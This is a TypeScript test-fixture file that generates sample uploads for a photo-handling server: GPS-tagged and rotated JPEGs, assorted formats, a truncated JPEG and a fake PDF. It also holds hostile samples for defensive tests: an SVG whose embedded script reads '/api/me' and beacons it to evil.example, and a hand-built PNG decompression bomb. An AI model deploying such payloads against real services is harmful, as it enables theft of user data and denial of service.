import { deflateSync } from "node:zlib";
import sharp from "sharp";

/**
 * A picture with some detail (a disc on a coloured ground), so encoders have something to do, and
 * bars placed at random: every call is a different picture, as two members' photos are. The same
 * picture twice would be held as a copy of another member's photo (PHOTO_MATCHING).
 */
function picture(width: number, height: number, background = { r: 200, g: 60, b: 60 }) {
  const r = Math.floor(Math.min(width, height) / 3);
  // Inside the middle 80 %: the corners stay the ground's colour, which the placeholder tests read.
  const span = (size: number, bar: number) => Math.floor(size * 0.1 + Math.random() * (size * 0.8 - bar));
  const colour = () =>
    `#${Math.floor(Math.random() * 0xffffff)
      .toString(16)
      .padStart(6, "0")}`;
  const bars = Array.from({ length: 10 }, () => {
    const [w, h] = [
      Math.floor(width * (0.05 + Math.random() * 0.25)),
      Math.floor(height * (0.05 + Math.random() * 0.25)),
    ];
    return `<rect x="${span(width, w)}" y="${span(height, h)}" width="${w}" height="${h}" fill="${colour()}"/>`;
  }).join("");
  const svg = `<svg width="${width}" height="${height}"><circle cx="${width / 2}" cy="${height / 2}" r="${r}" fill="#2040c0"/>${bars}</svg>`;
  return sharp({ create: { width, height, channels: 3, background } }).composite([{ input: Buffer.from(svg) }]);
}

/** A JPEG as a phone writes it: camera make and the GPS position of where it was taken. */
export function jpegWithGps(width = 1200, height = 800): Promise<Buffer> {
  return picture(width, height)
    .jpeg({ quality: 90 })
    .withExif({
      IFD0: { Make: "KindredCam", Model: "Test 1" },
      IFD3: {
        GPSLatitudeRef: "N",
        GPSLatitude: "48/1 51/1 2400/100",
        GPSLongitudeRef: "E",
        GPSLongitude: "2/1 21/1 300/100",
      },
    })
    .toBuffer();
}

/** A landscape picture stored sideways with EXIF orientation 6, as phones held upright store it. */
export function jpegRotated(width = 600, height = 300): Promise<Buffer> {
  return picture(width, height).jpeg().withMetadata({ orientation: 6 }).toBuffer();
}

export const jpeg = (width = 640, height = 480) => picture(width, height).jpeg().toBuffer();
export const png = (width = 640, height = 480) => picture(width, height).png().toBuffer();
export const webp = (width = 640, height = 480) => picture(width, height).webp().toBuffer();
export const gif = () => picture(64, 64).gif().toBuffer();

/** A transparent PNG: the alpha channel must survive (the server re-encodes it as WebP). */
export const pngWithAlpha = (width = 320, height = 240) =>
  sharp({ create: { width, height, channels: 4, background: { r: 0, g: 128, b: 0, alpha: 0.5 } } })
    .png()
    .toBuffer();

export const textFile = () => Buffer.from("This is not a photo, whatever the file name says.\n".repeat(40));

export const svgWithScript = () =>
  Buffer.from(
    `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="400" height="400">` +
      `<script>fetch('/api/me').then(r => r.text()).then(t => navigator.sendBeacon('https://evil.example', t))</script>` +
      `<rect width="400" height="400" fill="red"/></svg>`,
  );

export const pdf = () =>
  Buffer.from("%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n");

/** The first half of a real JPEG: the header is fine, the picture data stops in the middle. */
export async function truncatedJpeg(): Promise<Buffer> {
  const whole = await picture(800, 600).jpeg().toBuffer();
  return whole.subarray(0, Math.floor(whole.length / 2));
}

/**
 * A few hundred bytes that declare a 40000x40000 picture (1.6 gigapixels, 4.8 GB decoded): a
 * hand-made PNG with a valid IHDR and a tiny IDAT. Built by hand because encoding a real one would
 * take as much memory as the attack it imitates.
 */
export function pngBomb(width = 40_000, height = 40_000): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr.writeUInt8(8, 8); // bit depth
  ihdr.writeUInt8(2, 9); // colour type: RGB
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk("IHDR", ihdr),
    chunk("IDAT", deflateSync(Buffer.alloc(1024))),
    chunk("IEND", Buffer.alloc(0)),
  ]);
}

/** Bytes that start like a JPEG, padded to `size`: for size limits, which apply before decoding. */
export function fileOfSize(size: number): Buffer {
  const bytes = Buffer.alloc(size, 0x41);
  bytes.set([0xff, 0xd8, 0xff, 0xe0]);
  return bytes;
}

function chunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, "ascii"), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}

const CRC_TABLE = Array.from({ length: 256 }, (_, n) => {
  let c = n;
  for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
  return c >>> 0;
});

function crc32(bytes: Buffer): number {
  let crc = 0xffffffff;
  for (const byte of bytes) crc = CRC_TABLE[(crc ^ byte) & 0xff]! ^ (crc >>> 8);
  return (crc ^ 0xffffffff) >>> 0;
}
